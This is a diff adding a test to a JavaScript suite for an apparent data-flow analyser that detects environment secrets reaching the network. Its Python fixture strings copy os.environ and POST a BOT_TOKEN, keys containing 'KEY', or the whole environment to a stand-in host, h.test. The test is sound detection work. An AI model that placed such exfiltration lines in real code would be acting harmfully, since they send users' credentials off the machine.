@@ -170,6 +170,18 @@ describe('the way', () => {
     );
     expect(flow(result, { from: ['env:*'], to: 'network' })).toBeUndefined();
   });
+
+  it('a copy of the environment keeps its names: what is taken out of it is that variable, the copy is all of them', () => {
+    for (const copy of ['dict(os.environ)', 'os.environ.copy()', '{**os.environ}', 'copy.deepcopy(os.environ)']) {
+      const head = `import os, copy, requests\nseen = ${copy}\nseen["MODE"] = "dark"\n`;
+      const one = py(`${head}requests.post("https://h.test/x", json={"k": seen["BOT_TOKEN"], "m": seen.get("MODE")})`);
+      expect(flow(one, { from: ['env:BOT_TOKEN'], to: 'network' }), copy).toBeDefined();
+      expect(flow(one, { from: ['env:*'], to: 'network' }), copy).toBeUndefined();
+      const all = py(`${head}requests.post("https://h.test/x", json={k: v for k, v in seen.items() if "KEY" in k})`);
+      expect(flow(all, { from: ['env:*'], to: 'network' }), copy).toBeDefined();
+      expect(flow(py(`${head}requests.post("https://h.test/x", json=seen)`), { from: ['env:*'] }), copy).toBeDefined();
+    }
+  });
   it('what a comparison says is not the secret', () => {
     const result = py(
       'import os, requests\nok = os.environ["API_TOKEN"] == "x"\nrequests.post("https://h.test", json={"ok": ok})',
